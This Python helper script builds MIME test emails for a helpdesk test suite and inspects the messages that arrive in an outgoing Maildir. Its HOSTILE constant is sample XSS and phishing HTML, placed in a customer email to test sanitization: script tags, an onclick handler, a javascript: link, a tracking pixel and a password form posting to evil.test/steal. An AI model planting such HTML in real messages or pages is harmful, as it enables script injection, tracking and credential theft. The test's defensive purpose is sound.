#!/usr/bin/env python3
# mimecheck.py - build the MIME test messages of t_mime and read what
# lands in the outgoing Maildir (python3's email module).
#
#   mimecheck.py build KIND OUT.eml FROM TO SUBJECT MSGID DIR [EXTRA...]
#       write a message; DIR receives the originals' bytes (logo.png,
#       report.pdf, ...) so that the test can compare their SHA-256.
#       KIND: customer (HTML with a cid image, a PDF-ish binary and
#       hostile HTML), answer (an agent's Gmail-style HTML answer with a
#       quoted history, an inline image and an attachment; EXTRA: first
#       lines such as "#note"), many (EXTRA[0] attachments of 64 bytes),
#       huge (one attachment of EXTRA[0] bytes)
#   mimecheck.py parts FILE
#       one line per leaf part: content type, disposition, filename,
#       Content-ID, SHA-256 of the decoded bytes, decoded size
#   mimecheck.py tree FILE
#       the MIME structure, one content type per line, indented
#   mimecheck.py text FILE SUBTYPE
#       the decoded text of the first text/SUBTYPE part
import email
import email.policy
import hashlib
import os
import random
import sys
from email.message import EmailMessage

HOSTILE = ('<p onclick="alert(1)">Click</p><script>alert(2)</script>'
           '<img src="https://tracker.test/pixel.gif?u=1" alt="pixel">'
           '<form action="https://evil.test/steal"><input name="pw"></form>'
           '<a href="javascript:alert(3)">link</a>')


def blob(name, size, seed):
    return random.Random(seed).randbytes(size)


def save(directory, name, data):
    with open(os.path.join(directory, name), 'wb') as f:
        f.write(data)


def header(msg, sender, to, subject, msgid):
    msg['From'] = sender
    msg['To'] = to
    msg['Subject'] = subject
    msg['Message-ID'] = '<%s>' % msgid
    msg['Date'] = 'Sat, 28 Nov 2026 12:00:00 +0000'


def customer(directory, extra):
    png = b'\x89PNG\r\n\x1a\n' + blob('logo', 700, 1)
    pdf = b'%PDF-1.4\n' + blob('pdf', 5000, 2) + b'\n%%EOF\n'
    save(directory, 'logo.png', png)
    save(directory, 'report.pdf', pdf)
    msg = EmailMessage()
    msg.set_content('My printer shows this error (see the picture).\nPLAINMARK\n')
    msg.add_alternative('<html><body><p>My printer shows <b>this error</b>:</p>'
                        '<img src="cid:logo@customer.test" alt="error"><p>HTMLMARK</p>'
                        + HOSTILE + '</body></html>', subtype='html')
    msg.get_payload()[1].add_related(png, 'image', 'png', cid='<logo@customer.test>',
                                     filename='logo.png')
    msg.add_attachment(pdf, maintype='application', subtype='pdf', filename='report.pdf')
    return msg


def answer(directory, extra):
    png = b'\x89PNG\r\n\x1a\n' + blob('shot', 900, 3)
    pdf = b'%PDF-1.4\n' + blob('fix', 4000, 4) + b'\n%%EOF\n'
    save(directory, 'shot.png', png)
    save(directory, 'fix.pdf', pdf)
    lines = ''.join(x + '\n' for x in extra)
    html_lines = ''.join(x + '<br>' for x in extra)
    msg = EmailMessage()
    msg.set_content(lines + 'ANSWERMARK: please install the fix.\n\n'
                    'On Sat, 28 Nov 2026, Cust via Help wrote:\n> QUOTEDHISTORY\n> old text\n')
    msg.add_alternative('<div dir="ltr">' + html_lines + '<b>ANSWERMARK</b>: please install the fix.'
                        '<br><img src="cid:shot@agents.test" alt="shot"></div><br>'
                        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Sat, 28 Nov'
                        ' 2026, Cust via Help wrote:<br></div><blockquote class="gmail_quote">'
                        'QUOTEDHISTORY old text</blockquote></div>', subtype='html')
    msg.get_payload()[1].add_related(png, 'image', 'png', cid='<shot@agents.test>',
                                     filename='shot.png')
    msg.add_attachment(pdf, maintype='application', subtype='pdf', filename='fix.pdf')
    return msg


def many(directory, extra):
    msg = EmailMessage()
    msg.set_content('Many files.\n')
    for i in range(int(extra[0])):
        msg.add_attachment(blob('m', 64, 100 + i), maintype='application',
                           subtype='octet-stream', filename='file%d.bin' % i)
    return msg


def huge(directory, extra):
    data = blob('huge', int(extra[0]), 5)
    save(directory, 'huge.bin', data)
    msg = EmailMessage()
    msg.set_content('One huge file.\n')
    msg.add_attachment(data, maintype='application', subtype='octet-stream', filename='huge.bin')
    return msg


def build(argv):
    kind, out, sender, to, subject, msgid, directory = argv[:7]
    msg = {'customer': customer, 'answer': answer, 'many': many, 'huge': huge}[kind](directory, argv[7:])
    header(msg, sender, to, subject, msgid)
    with open(out, 'wb') as f:
        f.write(msg.as_bytes(policy=email.policy.SMTP))


def read(path):
    with open(path, 'rb') as f:
        return email.message_from_binary_file(f, policy=email.policy.default)


def parts(argv):
    for part in read(argv[0]).walk():
        if part.is_multipart():
            continue
        data = part.get_payload(decode=True) or b''
        print('%s %s %s %s %s %d' % (part.get_content_type(), part.get_content_disposition() or '-',
                                     part.get_filename() or '-',
                                     (part['Content-ID'] or '-').strip(),
                                     hashlib.sha256(data).hexdigest(), len(data)))


def tree(argv):
    def walk(part, depth):
        print('  ' * depth + part.get_content_type())
        if part.is_multipart():
            for sub in part.get_payload():
                walk(sub, depth + 1)
    walk(read(argv[0]), 0)


def text(argv):
    for part in read(argv[0]).walk():
        if part.get_content_type() == 'text/' + argv[1]:
            sys.stdout.write(part.get_content())
            return


if __name__ == '__main__':
    {'build': build, 'parts': parts, 'tree': tree, 'text': text}[sys.argv[1]](sys.argv[2:])
